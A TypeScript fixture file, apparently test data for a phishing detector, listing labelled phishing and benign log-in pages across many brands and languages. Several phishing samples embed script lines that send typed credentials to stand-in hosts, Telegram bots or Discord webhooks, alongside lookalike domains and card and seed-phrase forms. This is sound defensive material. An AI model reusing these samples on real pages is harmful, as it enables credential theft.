import {
  benign,
  button,
  card,
  dead,
  form,
  type LabelledPage,
  menu,
  paragraphs,
  password,
  phish,
  text,
  user,
} from "./build.ts";

const MANY = [
  "Home",
  "Shop",
  "About",
  "Catalogue",
  "Offers",
  "Stories",
  "Careers",
  "Investors",
  "Contact",
  "Imprint",
  "Privacy",
  "Terms",
  "Support",
  "Returns",
  "Stores",
  "Magazine",
];

/** Phishing that weights were chosen on. */
const PHISHING: readonly LabelledPage[] = [
  ...["Danske Bank", "Nordea", "MitID", "PostNord"].map((brand) =>
    phish("sent elsewhere in the clear", "http://verify-sikker.site/", {
      title: `${brand} - Log in`,
      body: `<h1>${brand}</h1><p>Verify your identity to go on.</p>${form("http://collect-drop.xyz/gate.php", user(), password(), button())}<a href="/help">Help</a>`,
    }),
  ),
  phish("sent elsewhere in the clear", "http://min-netbank.online/", {
    title: "Log ind",
    lang: "da",
    body: `<p>Bekræft dine oplysninger.</p>${form("http://collect-drop.xyz/gate.php", text("Bruger-id", "user"), password("Adgangskode"), button("Log ind"))}`,
  }),
  phish("bank and card", "https://danskebank-sikker.net/", {
    title: "Danske Netbank",
    lang: "da",
    body: `<h1>Log på Danske Netbank</h1>${form("/trin2", text("CPR-nummer", "cpr"), text("Kortnummer", "kort"), text("Kontrolcifre", "cvc"), button("Log på"))}<p>© Danske Bank A/S</p>`,
  }),
  phish(
    "in a frame of its own",
    "http://192.0.2.7:8000/",
    { title: "", body: `<iframe src="/inner"></iframe>` },
    {
      frames: [
        {
          url: "http://192.0.2.7:8000/inner",
          html: `<title>PayPal: Log in</title><h1>PayPal</h1>${form("http://192.0.2.7:8000/go", user(), password(), button())}`,
        },
      ],
    },
  ),
  phish(
    "false support",
    "https://warning-3921.azurewebsites.net/",
    {
      title: "Windows Security",
      body: `<h1>VIRUS ALERT from Microsoft</h1><p>Windows Defender Security Center: your computer has been blocked. Do not restart it. Call Microsoft Support +1-888-555-0142.</p>`,
    },
    { dialogs: [{ type: "alert", text: "" }] },
  ),
  phish("disguised words", "https://account-limited.info/", {
    title: "Раураl",
    body: `<h1>Раураl</h1>${form("next.php", text("E-mаil", "a"), text("Pаss\u200Bword", "b"), button("Log in"))}`,
  }),
  phish(
    "brand on top of the page",
    "https://my-account-portal.net/",
    {
      title: "Sign in",
      body: `<div style="font-size:40px">PayPal</div>${form("/login", user(), password(), button())}${menu("Help", "Privacy", "Terms", "Contact")}`,
    },
    { shown: "PayPal\nEmail\nPassword\nLog in\nHelp Privacy Terms Contact" },
  ),
  phish("a title that names nobody", "https://my-account-portal.net/", {
    title: "Log in to your account",
    body: `<h1>PayPal</h1>${form("/login", user(), password(), button())}${menu("Help", "Privacy", "Terms", "Contact", "Cookies", "About", "Imprint", "Jobs")}`,
  }),
  phish("first step sent elsewhere", "https://login-microsoft-portal.net/", {
    title: "Sign in",
    body: `<img alt="Microsoft" src="ms.svg"><h1>Sign in</h1>${form("http://collect-drop.xyz/s1.php", user("Email, phone, or Skype", "loginfmt"), button("Next"))}`,
  }),
  phish("sent by a script", "https://files-portal-view.net/", {
    title: "Microsoft account",
    body: `<img alt="Microsoft" src="ms.svg"><p>Sign in to see your file.</p><input type=email id=e placeholder="Email"><input type=password id=p placeholder="Password"><button>Sign in</button><script>fetch("http://exfil-drop.xyz/v1/log",{method:"POST",body:e.value+p.value})</script>`,
  }),
  phish("seed phrase", "https://claim-arb-tokens.net/", {
    title: "Claim 2,400 ARB",
    body: `<h1>Claim 2,400 ARB</h1><p>Enter your 12-word recovery phrase to receive them.</p><textarea name="seed" placeholder="recovery phrase"></textarea><button>Claim</button>`,
  }),
  ...(["Account", "Welcome", ""] as const).map((title) =>
    phish("a title that names nobody", "http://192.0.2.9:8001/", {
      title,
      body: `<h1>PayPal</h1>${form("/go", user(), password(), button())}`,
    }),
  ),
  phish("a title that names nobody", "https://service-desk-portal.info/", {
    title: "Log in",
    lang: "da",
    body: `<h1>MitID</h1>${form("/go", text("Bruger-id", "user"), password("Adgangskode"), button("Log ind"))}`,
  }),
  phish("links to clear it", "http://192.0.2.9:8001/", {
    title: "Secure sign-in",
    body: `<h1>PayPal</h1>${menu(...MANY, ...MANY.map((name) => `${name} 2`))}${form("/go", user(), password(), button())}`,
  }),
  phish(
    "asks by a dialog",
    "http://192.0.2.9:8001/",
    { title: "PayPal", body: "<h1>PayPal</h1><p>Please wait for your transactions.</p>" },
    { dialogs: [{ type: "prompt", text: "PayPal password" }] },
  ),
  phish(
    "asks by the browser's window",
    "http://192.0.2.9:8001/",
    { title: "PayPal", body: "<h1>PayPal</h1><p>Log in to see your transactions.</p>" },
    { logins: 1, status: 401 },
  ),
  phish("a code to scan", "https://m365-authenticate.info/", {
    title: "Microsoft 365",
    body: `<h1>Microsoft</h1><p>Scan the QR code with your phone to sign in and review the document.</p><img src="qr.png" alt="QR code">`,
  }),
  phish("no fields of forms", "https://m365-mail.pages.dev/", {
    title: "Sign in to your Microsoft account",
    body: `<h1>Microsoft</h1><div contenteditable="true" aria-label="Email"></div><div contenteditable="true" aria-label="Password" style="-webkit-text-security: disc"></div><button>Sign in</button>`,
  }),
  ...(
    [
      ["login-microsoft365.com", "Microsoft", "Sign in to your Microsoft account", "microsoft"],
      ["amazon-account-verify.top", "Amazon", "Amazon Sign-In", "amazon"],
      ["facebook-security-check.site", "Facebook", "Log in to Facebook", "facebook"],
      ["icloud.find-device.live", "Apple", "iCloud", "icloud"],
      ["dropbox-files.click", "Dropbox", "Dropbox - Sign in", "dropbox"],
      ["docusign-envelope.online", "DocuSign", "DocuSign Login - Enter email to start sign in", "docusign"],
      ["citi-online-secure.com", "Citibank", "Citi.com | Sign on", "citi"],
      ["binance-login.vip", "Binance", "Log In | Binance", "binance"],
    ] as const
  ).map(([host, brand, title, file]) =>
    phish("kit in PHP", `https://${host}/login/`, {
      title,
      head: `<link rel="shortcut icon" href="images/favicon.ico">`,
      body: `<!-- saved from url=(0031)https://www.${file}.com/login --><img src="images/${file}-logo.png" alt="${brand}"><h1>Sign in</h1>${form("login.php", user(), password(), button("Sign in"))}${dead("Forgot password", "Create account", "Privacy", "Terms")}<p>© ${brand}</p>`,
    }),
  ),
  ...(
    [
      ["paypal-help.weebly.com", "PayPal"],
      ["att-mail-upgrade.weeblysite.com", "AT&amp;T Mail"],
      ["yahoo-mail-2.square.site", "Yahoo Mail"],
      ["roblox-free-robux.github.io", "Roblox"],
      ["wetransfer-dl.pages.dev", "WeTransfer"],
      ["spotify-premium-renew.netlify.app", "Spotify"],
    ] as const
  ).map(([host, brand]) =>
    phish("free hosting", `https://${host}/`, {
      title: `${brand} Login`,
      body: `<h2>${brand}</h2>${form("https://formspree.io/f/xqkz", user(), password(), button("Sign in"))}`,
    }),
  ),
  phish("loads from the brand", "https://verify-billing.info/pp/", {
    title: "Log in to PayPal",
    head: `<link rel=stylesheet href="https://www.paypalobjects.com/a.css"><link rel="icon" href="https://www.paypalobjects.com/favicon.ico">`,
    body: `<img src="https://www.paypalobjects.com/logo.svg">${form("submit.php", user(), password(), button())}${dead("a", "b", "c", "d")}`,
  }),
  phish("loads from the brand", "https://193.42.33.7/chase", {
    title: "Sign in - chase.com",
    head: `<link rel=stylesheet href="https://static.chasecdn.com/a.css"><link rel=icon href="https://www.chase.com/favicon.ico">`,
    body: `<img alt="Chase" src="https://www.chase.com/logo.png">${form("post.php", text("Username", "user"), password(), button("Sign in"))}`,
  }),
  phish("script and Telegram", "https://onedrive-secure-view.workers.dev/", {
    title: "OneDrive",
    body: `<img src="data:image/png;base64,xx" alt="Microsoft"><input type=email id=em placeholder="Email"><input type=password id=pw placeholder=Password><button>View file</button><script>fetch("https://api.telegram.org/bot123456789:AAF/sendMessage?text="+em.value+pw.value)</script>`,
  }),
  phish(
    "script and Telegram",
    "https://excel-online.r2.dev/x.html#sales@factory-parts.com",
    {
      title: "Excel Online - Secure Document",
      body: `<h3>Microsoft Excel</h3><p>Enter password to access this document</p><input name=email value="sales@factory-parts.com"><input type=password name=pass><button>View Document</button>`,
      head: "",
    },
    { scripts: ["$.post('https://api.telegram.org/bot'+t+'/sendMessage')"] },
  ),
  phish("encoded document", "https://sharing-docs.azurewebsites.net/", {
    title: "Sign in to your account",
    body: `<h1>Sign in</h1><img alt="Microsoft" src="data:x">${form("https://hostz.icu/z/next.php", user("Email, phone, or Skype"), password(), button("Sign in"))}<script>document.write(unescape("%3C%68"))</script>`,
  }),
  phish("encoded document", "https://cdn-files.s3.amazonaws.com/auth.html", {
    title: "Outlook",
    body: `<input type=email placeholder="Email"><input type=password placeholder="Password"><button>Sign in</button><script>var _0x4f2a=["\\x70"];document.write(atob("PGh0bWw+"))</script>`,
  }),
  phish(
    "parcel and card",
    "https://dhl-package-de.com/zahlung",
    {
      title: "DHL Paket - Zahlung",
      lang: "de",
      body: `<img src="dhl-logo.svg" alt="DHL"><p>Ihre Sendung wartet. Zollgebühr 2,99 €.</p>${form("card.php", text("Karteninhaber", "n"), text("Kartennummer", "cc"), text("Prüfnummer", "cvc"), button("Bezahlen"))}`,
    },
    { known: { ageDays: 4 } },
  ),
  phish(
    "parcel and card",
    "https://usps.post-track.top/",
    {
      title: "USPS.com® - Tracking",
      body: `<img src=u.svg alt="USPS"><p>Your package could not be delivered due to an incomplete address.</p>${form("/a", text("Full name", "fn"), text("Phone", "tel"), card(), button("Continue"))}`,
    },
    { known: { ageDays: 0 } },
  ),
  phish("parcel and card", "https://correos-envio.info/pago", {
    title: "Correos - Pago",
    lang: "es",
    body: `<img src=correos-logo.png alt=Correos><p>Gastos de envío pendientes: 1,79 €</p>${form("pago.php", text("Número de tarjeta", "num"), text("CVV", "cvv"), button("Pagar"))}`,
  }),
  phish("seed phrase", "https://metamask-restore.io/", {
    title: "MetaMask",
    body: `<img alt=MetaMask src=fox.svg><h1>Import a wallet</h1>${form("send.php", `<textarea name="phrase" placeholder="Secret Recovery Phrase"></textarea>`, button("Import"))}`,
  }),
  phish("seed phrase", "https://wallet-rectify.pages.dev/", {
    title: "Wallet Connect",
    body: `<h1>Select wallet</h1><p>Trust Wallet, MetaMask, Ledger</p><textarea name=p placeholder="Enter recovery phrase"></textarea><button>Connect</button><script>emailjs.send("a","b")</script>`,
  }),
  phish(
    "mail, made for one",
    "https://webmail-auth.xyz/?email=info@bau-maier.de",
    {
      title: "Webmail Login",
      body: `<p>Session expired. Please re-enter your password.</p>${form("post.php", `<input type=email name=email value="info@bau-maier.de">`, password(), button())}`,
    },
    { known: { ageDays: 9 } },
  ),
  phish("mail, made for one", "https://cpanel-notice.firebaseapp.com/#admin@shop-nord.dk", {
    title: "cPanel Webmail",
    body: `<p>Your mailbox is full. Confirm your identity to keep incoming messages.</p><input type=email value="admin@shop-nord.dk"><input type=password><button>Continue</button><script>fetch("https://discord.com/api/webhooks/1/x")</script>`,
  }),
  phish(
    "compromised site",
    "https://www.fliesen-krause.de/wp-includes/js/netflix/signin.php",
    {
      title: "Netflix",
      body: `<img src="nf-logo.png" alt="Netflix"><h1>Sign In</h1>${form("check.php", user(), password(), button("Sign In"))}`,
    },
    { known: { ageDays: 5000 } },
  ),
  phish(
    "compromised site",
    "https://clinicadental-sur.es/images/santander/login.html",
    {
      title: "Santander - Acceso clientes",
      lang: "es",
      body: `<img alt=Santander src=l.png>${form("go.php", text("DNI", "dni"), password("Clave"), button("Entrar"))}`,
    },
    { known: { ageDays: 2500 } },
  ),
  phish("French", "https://laposte-colis.net/", {
    title: "Colissimo - Suivi de colis",
    lang: "fr",
    body: `<h1>Colissimo</h1><p>Frais de livraison à payer.</p>${form("paiement.php", text("Numéro de carte", "cc"), text("Cryptogramme", "c"), button("Payer"))}`,
  }),
  phish("French", "https://credit-agricole.espace-client.top/", {
    title: "Crédit Agricole - Accès à mes comptes",
    lang: "fr",
    body: `<img src=ca.png alt="Crédit Agricole">${form("login.php", text("Identifiant", "id"), password("Mot de passe"), button("Se connecter"))}`,
  }),
  phish("Italian", "https://poste-it-sicurezza.com/", {
    title: "Poste Italiane - Accedi",
    lang: "it",
    body: `<h1>Poste Italiane</h1><p>Il tuo account è stato limitato</p>${form("l.php", text("Nome utente", "u"), password(), text("Codice", "otp"), button("Accedi"))}`,
  }),
  phish("Dutch", "https://rabobank-bevestigen.nl/", {
    title: "Rabobank - Inloggen",
    lang: "nl",
    body: `<img alt=Rabobank src=r.svg>${form("/x", text("Rekeningnummer", "iban"), text("Pasnummer", "pas"), password("Toegangscode"), button("Inloggen"))}`,
  }),
  phish("Japanese", "https://amazon.co.jp.account-check.cn/", {
    title: "Amazonサインイン",
    lang: "ja",
    body: `<img alt="Amazon" src=a.png><h1>ログイン</h1>${form("/sub.php", user("Eメール"), password("パスワード"), button("次へ"))}`,
  }),
  phish("Japanese", "https://eki-net.vjsdk.top/", {
    title: "えきねっと ログイン",
    lang: "ja",
    body: `<h1>えきねっと</h1>${form("/p", text("ユーザーID", "u"), password("パスワード"), button("ログイン"))}`,
  }),
  phish("Korean", "https://naver-cafe-login.kr.io/", {
    title: "네이버 : 로그인",
    lang: "ko",
    body: `<h1>NAVER</h1>${form("/l.php", text("아이디", "id"), password("비밀번호"), button("로그인"))}`,
  }),
  phish("Russian", "https://sberbank-online-vhod.ru/", {
    title: "Сбербанк Онлайн — вход",
    lang: "ru",
    body: `<h1>Сбербанк Онлайн</h1>${form("/a.php", text("Логин", "login"), password("Пароль"), button("Войти"))}`,
  }),
  phish("Chinese", "https://alipay-safe.cc/", {
    title: "支付宝 - 登录",
    lang: "zh",
    body: `<h1>支付宝</h1>${form("/a", text("手机号", "m"), password("密码"), button("登录"))}`,
  }),
  phish("disguise", "https://signin-help.net/", {
    title: "Μiсrоsоft - Sign in",
    body: form("auth.php", user(), password(), button("Sign in")),
  }),
  phish("disguise", "https://xn--pypal-4ve.com/", {
    title: "Log in",
    body: `<img src="pp-logo.png" alt="PayPal">${form("/a", user(), password(), button())}`,
  }),
  phish("first step only", "https://m365-share.vercel.app/", {
    title: "Microsoft",
    body: `<h1>Sign in</h1><img alt="Microsoft" src=m.svg>${form("/n", `<input type=email placeholder="Email, phone, or Skype">`, button("Next"))}`,
  }),
  phish(
    "first step only",
    "https://whatsapp-group-invite.xyz/",
    {
      title: "WhatsApp Group Invite",
      body: `<img alt=WhatsApp src=w.png><h1>WhatsApp</h1>${form("otp.php", `<input type=tel name=phone placeholder="Phone">`, button("Continue"))}`,
    },
    { known: { ageDays: 20 } },
  ),
  phish("game", "https://steamcommunlty.ru/login", {
    title: "Sign In",
    head: `<link rel=icon href="https://store.steampowered.com/favicon.ico">`,
    body: `<p>Steam account</p>${form("/l", text("Steam account name", "u"), password(), button("Sign in"))}`,
  }),
  phish("tax", "https://irs-stimulus.us/", {
    title: "IRS - Get My Payment",
    body: `<h1>Internal Revenue Service</h1><p>Tax refund</p>${form("s.php", text("Social Security Number", "ssn"), text("Date of birth", "dob"), card(), button("Continue"))}`,
  }),
];

const BENIGN: readonly LabelledPage[] = [
  ...(
    [
      ["https://www.paypal.com/signin", "Log in to your PayPal account"],
      ["https://login.live.com/login.srf", "Sign in to your Microsoft account"],
      ["https://accounts.google.com/v3/signin", "Sign in - Google Accounts"],
      ["https://www.amazon.de/ap/signin", "Amazon Anmelden"],
      ["https://www.facebook.com/login", "Log in to Facebook"],
      ["https://secure.chase.com/web/auth", "Sign in - chase.com"],
      ["https://www.dhl.de/de/privatkunden.html", "DHL Paket | Sendungsverfolgung"],
      ["https://online.sberbank.ru/CSAFront", "Сбербанк Онлайн — вход"],
      ["https://grp01.id.rakuten.co.jp/rms/nid/login", "【楽天】ログイン"],
      ["https://nid.naver.com/nidlogin.login", "네이버 : 로그인"],
      ["https://appleid.apple.com/", "Apple ID"],
      ["https://portal.metamask.io/", "MetaMask"],
    ] as const
  ).map(([url, title]) =>
    benign("brand's log-in", url, { title, body: `<h1>${title}</h1>${form("", user(), password(), button())}` }),
  ),
  ...(
    [
      ["https://app.holzwerk-cloud.de/login", "Anmelden | Holzwerk Cloud"],
      ["https://members.alpineclub-sample.org/signin", "Sign in | Alpine Club"],
      ["https://intranet.gemeinde-talheim.de/", "Intranet – Anmeldung"],
      ["https://crm.bluefinch.co/users/login", "Login"],
      ["https://portal.rentacar-demo.es/acceso", "Iniciar sesión"],
      ["https://mijn.waterschap-voorbeeld.nl/", "Inloggen"],
      ["https://konto.ksiegarnia-przyklad.pl/", "Zaloguj się"],
      ["https://hr.steelworks-sample.com/login.php", "Employee Login"],
      ["http://intern.kegelklub-muster.de/login.php", "Login"],
    ] as const
  ).map(([url, title]) =>
    benign("plain log-in", url, {
      title,
      body: `<h1>${title}</h1>${form("/login.php", user(), password(), button())}<a href=/forgot>Forgot</a>`,
    }),
  ),
  ...(
    [
      ["Turnverein Muster", "<p>Alles über unsere Kurse. Hier können Sie über uns lesen.</p>"],
      ["Trädgårdsföreningen", "<p>Ett äpple om dagen: allt om trädgårdens äpple.</p>"],
    ] as const
  ).map(([name, words]) =>
    benign("letters with marks", "http://verein-muster.example.de/", {
      title: `${name} – Anmelden`,
      lang: "de",
      body: `<h1>${name}</h1>${words}${form("/login", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
    }),
  ),
  benign("advice", "https://police-advice.example.dk/", {
    title: "Tech support scams",
    body: "<h1>Tech support scams</h1><p>A pop-up says that your computer is infected with a virus and that you must call Microsoft Support at +1-888-555-0142. It is a scam. Do not call.</p>",
  }),
  benign(
    "log-in of phones at a provider",
    "https://online.acme-bank-sample.com/",
    {
      title: "Acme Bank",
      body: `<h1>Acme Bank</h1>${menu(...MANY.slice(0, 12))}${form("https://login.acme-id-sample.com/sso", user(), password(), button())}`,
    },
    {
      known: {
        cloaking: "a page that posts passwords to login.acme-id-sample.com",
        hiddenCollector: "login.acme-id-sample.com",
      },
    },
  ),
  benign("title that names nobody", "https://portal.bygma-eksempel.dk/", {
    title: "Log ind",
    lang: "da",
    body: `<h1>Bygma Eksempel</h1><h2>MitID</h2><button>Log ind med MitID</button>${form("/login", user("E-mail"), password("Adgangskode"), button("Log ind"))}`,
  }),
  benign("title that names nobody", "https://partner.kurier-beispiel.de/", {
    title: "Willkommen",
    lang: "de",
    body: `<h1>Partnerportal</h1><h2>DHL</h2><h2>UPS</h2>${form("/login", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign(
    "asks by the browser's window",
    "https://wiki.steelworks-sample.com/",
    { title: "401 Authorization Required", body: "<h1>401 Authorization Required</h1><p>nginx</p>" },
    { logins: 1, status: 401 },
  ),
  benign(
    "asks by a dialog",
    "https://game.snake-sample.io/",
    { title: "Snake", body: "<h1>Snake</h1><canvas></canvas>" },
    { dialogs: [{ type: "prompt", text: "Your name for the list of high scores" }] },
  ),
  benign("a code to scan", "https://chat.bluefinch-sample.com/", {
    title: "Bluefinch Web",
    body: `<h1>Bluefinch Web</h1><p>Scan the QR code with your phone to log in.</p><canvas></canvas>`,
  }),
  benign("a code to scan", "https://www.museum-sample.dk/app", {
    title: "Get our app",
    body: `<h1>Get our app</h1><p>Scan the QR code to download the app from Google Play or the App Store, and continue your visit.</p><img src="qr.png" alt="QR code"><img src="google-play.png" alt="Google Play">`,
  }),
  benign("rented log-in", "https://globex.onelogin.com/login2", {
    title: "OneLogin",
    body: `<img alt="Globex" src=g.png>${form("", user(), password(), button())}`,
  }),
  benign("rented log-in", "https://initech.my.salesforce.com/", {
    title: "Login | Salesforce",
    body: form("", text("Username", "username"), password(), button()),
  }),
  benign("rented log-in", "https://vault.bitwarden.com/#/login", {
    title: "Bitwarden Web vault",
    body: form("", user(), password("Master password"), button()),
  }),
  benign("others' buttons", "https://app.mapnotes.dev/signin", {
    title: "Sign in to MapNotes",
    body: `<h1>Sign in to MapNotes</h1><a href="https://accounts.google.com/o/oauth2"><img alt="Google" src="google-logo.svg">Continue with Google</a><a href="https://github.com/login/oauth"><img alt="GitHub" src=gh.svg>Continue with GitHub</a>${form("/signin", user(), password(), button())}`,
  }),
  benign("others' buttons", "https://login.lernplattform-muster.de/", {
    title: "Login",
    lang: "de",
    body: `<h1>Lernplattform</h1><button><img alt="Microsoft" src="ms.svg">Mit Microsoft anmelden</button>${form("/l", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("others' buttons", "https://id.festival-tickets.fr/connexion", {
    title: "Connexion - Festival Tickets",
    lang: "fr",
    body: `<button>Se connecter avec Facebook</button><button>Se connecter avec Apple</button>${form("/c", user(), password("Mot de passe"), button("Se connecter"))}`,
  }),
  benign(
    "own mail",
    "https://outlook.kanzlei-vogel.de/owa/",
    {
      title: "Outlook Web App",
      body: `<img alt="Outlook" src=/owa/l.png>${form("/owa/auth.owa", text("Benutzername", "username"), password("Kennwort"), button("Anmelden"))}<p>© Microsoft Corporation</p>`,
    },
    { technologies: ["Outlook on the web"] },
  ),
  benign(
    "own mail",
    "https://mail.provider-beispiel.net/",
    {
      title: "Zimbra Web Client Sign In",
      body: form("/", text("Username", "username"), password(), button("Sign In")),
    },
    { technologies: ["Zimbra"] },
  ),
  benign(
    "blog's own log-in",
    "https://bergwandern-blog.at/wp-login.php",
    {
      title: "Anmelden ‹ Bergwandern — WordPress",
      lang: "de",
      body: `<h1><a href="https://wordpress.org/">Powered by WordPress</a></h1>${form("https://bergwandern-blog.at/wp-login.php", text("Benutzername", "log"), password("Passwort", "pwd"), button("Anmelden"))}`,
    },
    { technologies: ["WordPress"] },
  ),
  benign("shop", "https://www.gartenmoebel-sample.de/konto", {
    title: "Mein Konto | Gartenmöbel Sample",
    lang: "de",
    body: `${menu(...MANY)}${form("/konto", user("E-Mail"), password("Passwort"), button("Anmelden"))}<img alt="PayPal" src=pp.svg><img alt="DHL" src=dhl.svg><img alt="Visa" src=v.svg>`,
  }),
  benign("shop", "https://checkout.sneakerdrop.co/cart", {
    title: "Checkout – Sneakerdrop",
    body: `<h1>Payment</h1><img alt="American Express" src="amex-logo.svg"><img alt="PayPal" src="paypal-logo.svg"><button>Buy with Amazon Pay</button>${form("/cart/pay", user(), card(), button("Pay now"))}`,
  }),
  benign("shop", "https://secure.charity-sample.org/donate", {
    title: "Donate",
    body: `${form("/donate", text("Name", "n"), user(), card(), button("Donate"))}<p>Pay by PayPal or card.</p>`,
  }),
  benign("shop", "https://pay.parking-muster.de/", {
    title: "Parkticket bezahlen",
    lang: "de",
    body: form("/p", text("Kennzeichen", "kfz"), text("Kartennummer", "cc"), text("CVV", "cvv"), button("Bezahlen")),
  }),
  benign("reseller", "https://www.ms-lizenzen-beispiel.de/", {
    title: "Microsoft Office 365 Lizenzen günstig kaufen",
    lang: "de",
    body: `${menu(...MANY)}<h1>Microsoft Office 365</h1>${form("/login", user(), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("reseller", "https://www.iphone-reparatur-ulm.de/", {
    title: "Apple iPhone Reparatur Ulm",
    lang: "de",
    body: `${menu(...MANY)}<h1>iPhone Reparatur</h1>${form("/kontakt", user(), text("Telefon", "tel"), button("Senden"))}`,
  }),
  benign("news", "https://www.techkurier-muster.de/amazon-prime-day", {
    title: "Amazon Prime Day: die besten Angebote",
    lang: "de",
    body: `${menu(...MANY)}<h1>Amazon Prime Day</h1>${paragraphs("Angebote bei Amazon.", "Mehr bei eBay.")}<a href="https://www.amazon.de/a">1</a><a href="https://www.amazon.de/b">2</a><a href="https://www.amazon.de/c">3</a>${form("/login", user(), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("news", "https://www.eveningpost-sample.com/microsoft-outage", {
    title: "Microsoft outage hits Outlook and Teams",
    body: `<h1>Microsoft outage hits Outlook and Teams</h1>${paragraphs("Users could not log in.", "Your account has been locked, some saw.")}${form("/subscribe", user(), button("Subscribe"))}`,
  }),
  benign("forum", "https://community.pcfreunde-muster.de/threads/steam-login.991/", {
    title: "Steam Login geht nicht | PCFreunde",
    lang: "de",
    body: `<h1>Steam Login geht nicht</h1><p>Steam Guard code kommt nicht an.</p>${form("/login", text("Benutzername", "u"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("forum", "https://www.crypto-talk-sample.org/ledger", {
    title: "Ledger or Trezor? - Crypto Talk",
    body: `<h1>Ledger or Trezor?</h1><p>Keep your recovery phrase offline.</p><textarea name="message" placeholder="Write a reply"></textarea>${form("/login", text("Username", "u"), password(), button("Log in"))}`,
  }),
  benign("security vendor", "https://www.mailwarden-sample.com/resources/docusign-phishing", {
    title: "DocuSign phishing: how to tell - Mailwarden",
    body: `${menu(...MANY)}<h1>DocuSign phishing: how to tell</h1>${paragraphs("The page shows a document and asks to verify your account.")}${form("/demo", user("Business email"), text("Company", "c"), button("Get a demo"))}`,
  }),
  benign("security vendor", "https://portal.phishsim-sample.com/login", {
    title: "Sign in | Phishsim",
    body: `<h1>Phishsim</h1><p>Templates: Microsoft, DHL, PayPal</p>${form("/login", user(), password(), button())}`,
  }),
  benign("password manager", "https://app.safekeep-sample.com/", {
    title: "Safekeep",
    body: `<h1>Safekeep</h1>${form("", user(), password("Master password"), button("Unlock"))}`,
  }),
  benign("fan page", "https://netflixandchillrecipes.blogspot.com/", {
    title: "Netflix and Chill Recipes",
    body: `<h1>Netflix and Chill Recipes</h1>${paragraphs("Popcorn first.")}`,
  }),
  benign(
    "parked",
    "http://paypal-verify-login.info/",
    { title: "paypal-verify-login.info", body: "<p>Buy this domain.</p>" },
    { known: { ageDays: 40 } },
  ),
  benign(
    "parked",
    "http://amaz0n-deals.shop/",
    { title: "amaz0n-deals.shop - Registered at Namecheap", body: "<p>This domain has been registered.</p>" },
    { known: { ageDays: 2 } },
  ),
  benign("error", "https://dhl-track.web.app/", { title: "Site Not Found", body: "<h1>Site Not Found</h1>" }),
  benign("error", "https://www.sample-firma.de/x", { title: "403 Forbidden", body: "<h1>Forbidden</h1><hr>nginx" }),
  benign("default page", "http://192.0.2.44/", { title: "Welcome to nginx!", body: "<h1>Welcome to nginx!</h1>" }),
  benign("default page", "https://neu-registriert.de/", {
    title: "IONOS - Hier entsteht eine neue Website",
    lang: "de",
    body: `<h1>Hier entsteht eine Website</h1><a href="https://www.ionos.de/">IONOS</a>`,
  }),
  benign("device", "https://192.0.2.12/", {
    title: "Synology DiskStation",
    body: form("/webman/login.cgi", text("Username", "u"), password(), button("Sign in")),
  }),
  benign("small app on free hosting", "https://budget-buddy.netlify.app/", {
    title: "Budget Buddy",
    body: `<h1>Budget Buddy</h1>${form("/.netlify/functions/login", user(), password(), button())}<button>Sign in with Google</button>`,
  }),
  benign("small app on free hosting", "https://todo-sample.web.app/login", {
    title: "Todo Sample - Login",
    body: form("", user(), password(), button()),
  }),
  benign("small app on free hosting", "https://hausverwaltung-sample.azurewebsites.net/Account/Login", {
    title: "Log in - Hausverwaltung",
    body: form("/Account/Login", user(), password(), button()),
  }),
  benign("exercise on free hosting", "https://dev-kim.github.io/spotify-landing/", {
    title: "Spotify landing page",
    body: `<h1>Spotify landing page</h1><p>Frontend practice.</p><a href="https://github.com/dev-kim">Code</a>`,
  }),
  benign("exercise on free hosting", "https://lea-codes.netlify.app/amazon-clone", {
    title: "Amazon Clone",
    body: `<h1>Amazon clone with React</h1><a href="https://github.com/lea">GitHub</a><button>Add to basket</button>`,
  }),
  benign("form", "https://docs.google.com/forms/d/e/abc/viewform", {
    title: "Vereinsfest: Anmeldung",
    lang: "de",
    body: form("/formResponse", text("Name", "n"), user(), button("Senden")),
  }),
  benign("documentation", "https://docs.mailtool-sample.io/setup/gmail", {
    title: "Connect Gmail - Mailtool Docs",
    body: `${menu(...MANY)}<h1>Connect Gmail</h1>${paragraphs("Sign in to your Google account and allow access.")}`,
  }),
  benign("documentation", "https://wiki.verein-sample.de/passwort", {
    title: "Outlook Passwort ändern",
    lang: "de",
    body: `<h1>Outlook Passwort ändern</h1><p>So geht es.</p>${form("/wiki/login", text("Benutzername", "u"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("Japanese", "https://www.hotel-rei-sample.jp/login", {
    title: "会員ログイン - ホテル例",
    lang: "ja",
    body: form("/login", text("会員ID", "id"), password("パスワード"), button("ログイン")),
  }),
  benign("Korean", "https://www.seojeom-sample.kr/login", {
    title: "로그인 - 서점",
    lang: "ko",
    body: `${form("/login", text("아이디", "id"), password("비밀번호"), button("로그인"))}<a href="/n">네이버 로그인</a><a href="/k">카카오 로그인</a>`,
  }),
  benign("Chinese", "https://passport.shucheng-sample.com/", {
    title: "登录",
    lang: "zh",
    body: `${form("/login", text("账号", "u"), password("密码"), button("登录"))}<a href="/a">微信</a>`,
  }),
  benign("Ukrainian", "https://my.apteka-sample.ua/", {
    title: "Вхід до кабінету",
    lang: "uk",
    body: `${form("/l", text("Телефон", "t"), password("Пароль"), button("Увійти"))}<p>Оплата через ПриватБанк</p>`,
  }),
  benign("government", "https://service.stadt-muster.de/anmelden", {
    title: "Serviceportal Stadt Muster",
    lang: "de",
    body: `<a href="https://id.bund.de/">Mit BundID anmelden</a><a href="https://www.elster.de/">Mit ELSTER anmelden</a>${form("/a", user("E-Mail"), password("Passwort"), button("Anmelden"))}`,
  }),
  benign("bank not in the list", "https://online.kantonalbank-sample.ch/", {
    title: "E-Banking Login",
    lang: "de",
    body: form("/auth", text("Vertragsnummer", "v"), password("Passwort"), text("SMS-Code", "otp"), button("Anmelden")),
  }),
  benign("carrier's partner", "https://shop-versand-sample.de/retoure", {
    title: "Retoure mit DHL",
    lang: "de",
    body: `<h1>Retoure mit DHL</h1>${form("/r", text("Bestellnummer", "b"), user(), button("Weiter"))}`,
  }),
  benign("bank not in the list", "https://bank.verein-sample.net/login", {
    title: "Staff log-in",
    body: form("/login", user(), password(), button()),
  }),
  benign("log-in by others", "https://selvbetjening.kommune-sample.dk/", {
    title: "Log ind med MitID - Selvbetjening",
    lang: "da",
